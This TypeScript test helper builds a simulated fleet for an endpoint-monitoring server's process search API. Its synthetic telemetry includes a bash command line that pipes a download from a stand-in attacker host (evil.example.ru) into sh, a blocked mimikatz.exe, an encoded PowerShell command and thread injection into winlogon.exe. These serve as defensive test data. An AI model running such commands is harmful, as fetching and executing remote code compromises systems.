/**
 * Process and binary search tests: a small fleet whose processes reach the server through the
 * real sensor protocol (register, upload events and binaries), and helpers to search it over HTTP.
 */
import assert from 'node:assert/strict';
import type { SensorEvent } from '../../src/ingest/event.schemas.js';
import { as, type TestApp } from './app.js';
import { binaryMetadata, processEvents, registerSensor, uploadBinary, uploadEvents, type TestSensor } from './sensors.js';

export type Params = Record<string, string | number | readonly (string | number)[]>;

export function queryString(params: Params): string {
  const query = new URLSearchParams();
  for (const [key, value] of Object.entries(params)) {
    for (const item of Array.isArray(value) ? value : [value]) query.append(key, String(item));
  }
  return query.toString();
}

export async function searchProcesses(test: TestApp, params: Params, token = test.adminToken, path = '/api/v1/process') {
  const response = await test.app.inject({ url: `${path}?${queryString(params)}`, headers: as(token) });
  assert.equal(response.statusCode, 200, response.body);
  return response.json() as { total_results: number; results: Record<string, unknown>[]; facets: Record<string, FacetEntry[]>; terms: string[]; start: number };
}

export interface FacetEntry {
  name: string;
  value: number;
  percent: number;
  ratio: number;
}

export const T0 = Date.parse('2026-11-20T10:00:00.000Z');

export interface StartFields {
  path: string;
  cmdline: string;
  username: string;
  md5?: string;
  parent?: { pid: number; start: number; path: string; md5?: string };
}

export function processStart(pid: number, startMs: number, fields: StartFields): SensorEvent {
  const { parent, ...rest } = fields;
  return {
    type: 'process_start', ts: startMs, pid, process_start: startMs, ...rest,
    ...(parent ? { parent_pid: parent.pid, parent_start: parent.start, parent_path: parent.path, ...(parent.md5 ? { parent_md5: parent.md5 } : {}) } : {}),
  } as SensorEvent;
}

/** Content whose md5 the fleet's processes carry, so binary fields have something to join. */
export const BINARIES = {
  cmd: Buffer.from('MZ cmd.exe test content'),
  powershell: Buffer.from('MZ powershell.exe test content'),
  explorer: Buffer.from('MZ explorer.exe test content'),
};

export const md5Of = (content: Buffer) => binaryMetadata(content, { observed_filename: 'x' }).md5.toLowerCase();

/**
 * Values the fleet's events carry for the event fields no other data reaches: the TLS fingerprints
 * of powershell.exe's connection (sent in upper case, as the reference's examples write ja3), the
 * IPv6 upstream nginx connects to, the md5 of winlogon.exe that powershell.exe injects a thread
 * into, and the md5 of the banned tool explorer.exe was stopped from starting.
 */
export const EVENT_VALUES = {
  ja3: 'E7D705A3286E19EA42F587B344EE6865',
  ja3s: 'F4FEBC55EA12B31AE17CFB7E614AFDA8',
  upstreamV6: '2001:db8:85a3::8a2e:370:7334',
  injectedMd5: '5f1b3c2a9d8e7f60a1b2c3d4e5f60718',
  blockedMd5: '29d3a9e7c6b5a4f3e2d1c0b9a8f7e6d5',
};

export interface Fleet {
  windows: TestSensor;
  linux: TestSensor;
  serversGroup: number;
}

/**
 * Windows workstation WIN-ACCT-01 (Default Group): explorer.exe, stopped by a ban from starting a
 * tool, starting cmd.exe (the support module's full process) and powershell.exe (a TLS connection
 * to update.microsoft.com, a script written to Temp, a thread injected into winlogon.exe).
 * Linux server web-01 (group Servers): bash fetching from evil.example.ru, and nginx connecting to
 * an IPv6 upstream. cmd.exe's binary is signed by Microsoft; powershell's is unsigned. Events of
 * explorer.exe and nginx fall outside 10:00:00–10:00:01.5, a window the routes test counts.
 */
export async function buildFleet(test: TestApp): Promise<Fleet> {
  const group = await test.app.inject({ method: 'POST', url: '/api/group', headers: as(test.adminToken), payload: { name: 'Servers', site_id: 1 } });
  assert.equal(group.statusCode, 200, group.body);
  const serversGroup = group.json().id as number;
  const windows = await registerSensor(test, { computer_name: 'WIN-ACCT-01', network_adapters: [{ ip: '10.1.2.3', mac: '00155D019C08' }] });
  const linux = await registerSensor(test, { computer_name: 'web-01', os_type: 'linux', host_type: 'server' }, serversGroup);

  const signed = { result: 'Signed' as const, publisher: 'Microsoft Corporation', sign_time: Date.parse('2024-03-01T00:00:00Z') };
  for (const [name, content, extra] of [
    ['cmd', BINARIES.cmd, { company_name: 'Microsoft Corporation', product_name: 'Microsoft® Windows® Operating System', digsig: signed, is_64bit: true }],
    ['powershell', BINARIES.powershell, { company_name: 'Contoso Ltd', digsig: { result: 'Unsigned' as const } }],
    ['explorer', BINARIES.explorer, { company_name: 'Microsoft Corporation', digsig: signed }],
  ] as const) {
    const uploaded = await uploadBinary(test, windows, binaryMetadata(content, { observed_filename: `c:\\windows\\system32\\${name}.exe`, ...extra }));
    assert.equal(uploaded.statusCode, 200, uploaded.body);
  }

  const explorer = { pid: 600, start: T0 - 60_000, path: 'C:\\Windows\\explorer.exe', md5: md5Of(BINARIES.explorer) };
  const cmd = processEvents(4242, T0, explorer).map((e) => (e.type === 'process_start' ? { ...e, md5: md5Of(BINARIES.cmd) } : e));
  const ps = { pid: 5000, start: T0 + 1_000 };
  const windowsEvents: SensorEvent[] = [
    processStart(explorer.pid, explorer.start, { path: explorer.path, cmdline: 'C:\\Windows\\Explorer.EXE', username: 'CORP\\Alice', md5: explorer.md5 }),
    {
      type: 'processblock', ts: explorer.start + 30_000, pid: explorer.pid, process_start: explorer.start, blocked_md5: EVENT_VALUES.blockedMd5,
      blocked_path: 'C:\\Users\\alice\\Downloads\\mimikatz.exe', block_result: 0,
    },
    ...cmd,
    processStart(ps.pid, ps.start, {
      path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmdline: 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA',
      username: 'CORP\\Alice', md5: md5Of(BINARIES.powershell), parent: explorer,
    }),
    {
      type: 'netconn', ts: ps.start + 1, pid: ps.pid, process_start: ps.start, direction: 'outbound', proto: 6,
      remote_ip: '13.107.4.50', remote_port: 443, domain: 'update.microsoft.com', ja3: EVENT_VALUES.ja3, ja3s: EVENT_VALUES.ja3s,
    },
    { type: 'filemod', ts: ps.start + 2, pid: ps.pid, process_start: ps.start, action: 'last_write', path: 'C:\\Users\\alice\\AppData\\Local\\Temp\\a.ps1', md5: 'd'.repeat(32) },
    {
      type: 'crossproc', ts: ps.start + 3, pid: ps.pid, process_start: ps.start, action: 'remote_thread', target_pid: 700,
      target_start: T0 - 120_000, target_path: 'C:\\Windows\\System32\\winlogon.exe', target_md5: EVENT_VALUES.injectedMd5.toUpperCase(), access: 0x1fffff,
    },
  ];
  const bash = { pid: 1200, start: T0 + 2_000 };
  const nginx = { pid: 900, start: T0 - 3_600_000 };
  const linuxEvents: SensorEvent[] = [
    processStart(nginx.pid, nginx.start, { path: '/usr/sbin/nginx', cmdline: 'nginx: master process /usr/sbin/nginx', username: 'root' }),
    {
      type: 'netconn', ts: nginx.start + 60_000, pid: nginx.pid, process_start: nginx.start, direction: 'outbound', proto: 6,
      remote_ip: EVENT_VALUES.upstreamV6, remote_port: 8080,
    },
    processStart(bash.pid, bash.start, { path: '/usr/bin/bash', cmdline: '/bin/bash -c "curl http://evil.example.ru/x | sh"', username: 'www-data' }),
    {
      type: 'netconn', ts: bash.start + 1, pid: bash.pid, process_start: bash.start, direction: 'outbound', proto: 6,
      remote_ip: '185.1.2.3', remote_port: 80, domain: 'evil.example.ru',
    },
    { type: 'regmod', ts: bash.start + 2, pid: bash.pid, process_start: bash.start, action: 'first_write', path: '\\REGISTRY\\MACHINE\\SOFTWARE\\x', tamper: true },
  ];
  for (const [sensor, events] of [[windows, windowsEvents], [linux, linuxEvents]] as const) {
    const response = await uploadEvents(test, sensor, 1, events);
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.json().accepted, events.length);
  }
  return { windows, linux, serversGroup };
}

/** The process names of a result page, in order. */
export const names = (results: Record<string, unknown>[]) => results.map((r) => r.process_name as string);
